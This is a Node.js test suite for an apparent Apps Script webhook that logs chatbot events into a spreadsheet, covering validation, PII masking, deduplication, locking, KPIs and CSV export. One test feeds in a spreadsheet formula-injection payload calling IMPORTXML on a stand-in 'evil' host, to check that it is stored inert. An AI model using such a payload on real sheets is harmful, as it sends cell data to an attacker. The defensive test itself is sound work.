'use strict';
const test = require('node:test');
const assert = require('node:assert/strict');
const fs = require('node:fs');
const path = require('node:path');
const { load } = require('./harness');

// values built inside the vm context have that context's Array prototype: compare as plain data
const plain = (v) => JSON.parse(JSON.stringify(v));

const SECRET = 'a-long-enough-secret';
const KEY = '000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f';
const EVENT = { timestamp: '2025-01-01T12:34:56+03:00', channel: 'whatsapp', session_id: 'sess_12345',
  event_type: 'appointment.confirmed', intent: 'book_appointment', confidence: 0.92, crm_id: 'LEAD_789' };

function app(extra = {}) {
  return load({ properties: { WEBHOOK_SECRET: SECRET, TOKEN_KEY: KEY }, ...extra });
}

test('a valid single event is stored under the header, answered ok', () => {
  const a = app();
  const r = a.post({ ...EVENT, event_id: 'e1' }, SECRET);
  assert.deepEqual(r, { ok: true, stored: ['e1'], duplicates: [] });
  const sheet = a.sheets.events;
  assert.equal(sheet.data[0][0], 'event_id');
  assert.equal(sheet.data.length, 2);
  assert.equal(sheet.data[1][7], 'appointment.confirmed');
});

test('a batch is written with one setValues call', () => {
  const a = app();
  a.post({ ...EVENT, event_id: 'first' }, SECRET);
  const writes = a.sheets.events.writes.length;
  const r = a.post([1, 2, 3].map((i) => ({ ...EVENT, event_id: 'b' + i })), SECRET);
  assert.deepEqual(r.stored, ['b1', 'b2', 'b3']);
  assert.equal(a.sheets.events.writes.length, writes + 1);
  assert.equal(a.sheets.events.data.length, 5);
});

test('a wrong or missing token writes nothing', () => {
  const a = app();
  for (const token of ['nope', undefined, '']) {
    const r = a.post(EVENT, token);
    assert.equal(r.ok, false);
    assert.equal(r.field, 'token');
  }
  assert.equal(a.sheets.events, undefined);
});

test('without a configured secret the script says how to set one', () => {
  const a = load({ properties: {} });
  assert.match(a.post(EVENT, 'x').error, /Set the secret/);
});

for (const [name, body, field] of [
  ['missing field', { ...EVENT, session_id: undefined }, 'session_id'],
  ['no offset', { ...EVENT, timestamp: '2025-01-01T12:34:56' }, 'timestamp'],
  ['bad event type', { ...EVENT, event_type: 'Lead Created' }, 'event_type'],
  ['bad confidence', { ...EVENT, confidence: 'high' }, 'confidence'],
  ['message without text', { ...EVENT, event_type: 'message.received' }, 'payload.text'],
  ['second of a batch', [EVENT, { ...EVENT, channel: 5.5e400 }], '[1].channel'],
]) {
  test(`a ${name} is refused naming the field`, () => {
    const a = app();
    const r = a.post(body, SECRET);
    assert.equal(r.ok, false);
    assert.equal(r.field, field);
    assert.equal(a.sheets.events, undefined);
  });
}

test('malformed JSON is refused', () => {
  const r = app().post('{"timestamp": ', SECRET);
  assert.deepEqual([r.ok, r.field], [false, 'body']);
});

test('formula-looking text is stored inert', () => {
  const a = app();
  a.post({ ...EVENT, event_id: 'f1', session_id: '=IMPORTXML("http://evil/?"&A1,"//a")', channel: '+cmd' }, SECRET);
  const row = a.sheets.events.data[1];
  assert.equal(row[5], "'=IMPORTXML(\"http://evil/?\"&A1,\"//a\")");
  assert.equal(row[4], "'+cmd");
});

test('phones, e-mails and cards are masked with keyed tokens', () => {
  const a = app();
  a.post({ ...EVENT, event_id: 'm1', event_type: 'message.received', user_phone: '89171234567',
    payload: { text: 'звоните +7 917 123-45-67 или пишите a.b@mail.ru, карта 2202 2061 4478 3318' } }, SECRET);
  const row = a.sheets.events.data[1];
  assert.match(row[6], /^\[PHONE:[0-9a-f]{10}\]$/);
  assert.ok(row[11].includes(row[6]), 'the same phone gives the same token');
  assert.ok(!/917|mail\.ru|2202/.test(row[11]));
  assert.ok(row[11].includes('[CARD]') && row[11].includes('[EMAIL:'));
});

test('duplicate event ids are skipped, also within one batch', () => {
  const a = app();
  a.post({ ...EVENT, event_id: 'd1' }, SECRET);
  const r = a.post([{ ...EVENT, event_id: 'd1' }, { ...EVENT, event_id: 'd2' }, { ...EVENT, event_id: 'd2' }], SECRET);
  assert.deepEqual(r.stored, ['d2']);
  assert.deepEqual(r.duplicates, ['d1', 'd2']);
  assert.equal(a.sheets.events.data.length, 3);
  const again = a.post({ ...EVENT }, SECRET);  // no event_id: a stable one is derived from the content
  const same = a.post({ ...EVENT }, SECRET);
  assert.deepEqual(same.duplicates, again.stored);
});

test('concurrent posts: the lock serializes writes and a busy lock is reported, never interleaved', () => {
  const a = app();
  for (let i = 0; i < 20; i++) a.post({ ...EVENT, event_id: 'c' + i }, SECRET);
  assert.equal(a.lock.acquired, 20);
  assert.equal(a.lock.released, 20);
  const ids = a.sheets.events.data.slice(1).map((r) => r[0]);
  assert.deepEqual(ids, Array.from({ length: 20 }, (_, i) => 'c' + i));
  a.lock.held = true;  // another execution is writing right now
  const busy = a.post({ ...EVENT, event_id: 'late' }, SECRET);
  assert.equal(busy.ok, false);
  assert.match(busy.error, /busy/);
  assert.equal(a.sheets.events.data.length, 21);
  a.lock.held = false;
  assert.equal(a.post({ ...EVENT, event_id: 'late' }, SECRET).ok, true);
});

test('answers are JSON text output', () => {
  const a = app();
  const out = a.ctx.doPost({ parameter: { token: SECRET }, postData: { contents: JSON.stringify(EVENT) } });
  assert.equal(out.mime, 'application/json');
});

test('the menu is Russian or English, sets the secret and shows the URL with a curl test', () => {
  const ru = app({ promptAnswer: 'a-new-secret-of-20-chars' });
  ru.ctx.onOpen();
  assert.equal(ru.ui.menus[0].items[0][0], 'Задать секрет вебхука');
  ru.ctx.menuSetSecret();
  assert.equal(ru.props.WEBHOOK_SECRET, 'a-new-secret-of-20-chars');
  ru.ctx.menuShowUrl();
  assert.match(ru.ui.alerts.at(-1), /exec\?token=a-new-secret-of-20-chars[\s\S]*curl -L/);
  const en = app({ locale: 'en' });
  en.ctx.onOpen();
  assert.equal(en.ui.menus[0].items[2][0], 'Recompute kpi_lite');
  const short = app({ promptAnswer: 'short' });
  short.ctx.menuSetSecret();
  assert.equal(short.props.WEBHOOK_SECRET, SECRET);
});

test('kpi_lite counts events per day and type, lead → confirmed conversion and low confidence', () => {
  const a = app();
  a.post([
    { ...EVENT, event_id: 'k1', event_type: 'lead.created', confidence: 0.4 },
    { ...EVENT, event_id: 'k2', event_type: 'lead.created' },
    { ...EVENT, event_id: 'k3' },
    { ...EVENT, event_id: 'k4', timestamp: '2025-01-02T10:00:00+03:00', event_type: 'lead.created' },
  ], SECRET);
  const rows = plain(a.ctx.recomputeKpiLite());
  assert.deepEqual(rows[0], ['day', 'events', 'by_type', 'leads', 'confirmed', 'lead_to_confirmed', 'low_confidence']);
  assert.deepEqual(rows[1], ['2025-01-01', 3, 'appointment.confirmed: 1; lead.created: 2', 2, 1, 0.5, 1]);
  assert.deepEqual(rows[2], ['2025-01-02', 1, 'lead.created: 1', 1, 0, 0, 0]);
});

test('leads without a crm_id export as a Bitrix24 CSV file in Drive', () => {
  const a = app();
  a.post([{ ...EVENT, event_id: 'l1', event_type: 'lead.created', crm_id: undefined },
    { ...EVENT, event_id: 'l2', event_type: 'lead.created' }], SECRET);
  a.ctx.exportLeadsToDrive();
  const file = a.drive[0];
  assert.ok(file.content.startsWith('\ufeff"TITLE";"NAME";"PHONE_MOBILE"'));
  const lines = file.content.trim().split('\r\n');
  assert.equal(lines.length, 2);  // l2 already has a CRM id
  assert.match(lines[1], /"chatbot";"lead\.created .*event_id: l1";"NEW"$/);
});

test('parity: the shared fixture gives exactly the Python receiver\'s rows', () => {
  const dir = path.join(__dirname, '..', '..', 'tests', 'parity');
  const fixture = JSON.parse(fs.readFileSync(path.join(dir, 'events.json'), 'utf8'));
  const expected = JSON.parse(fs.readFileSync(path.join(dir, 'expected_rows.json'), 'utf8'));
  const a = load({ properties: { WEBHOOK_SECRET: SECRET, TOKEN_KEY: fixture.key } });
  a.ctx.nowIso_ = () => fixture.received_at;
  const r = a.post(fixture.events, SECRET);
  assert.equal(r.ok, true, JSON.stringify(r));
  assert.deepEqual(plain(a.sheets.events.data.slice(1)), expected);
});
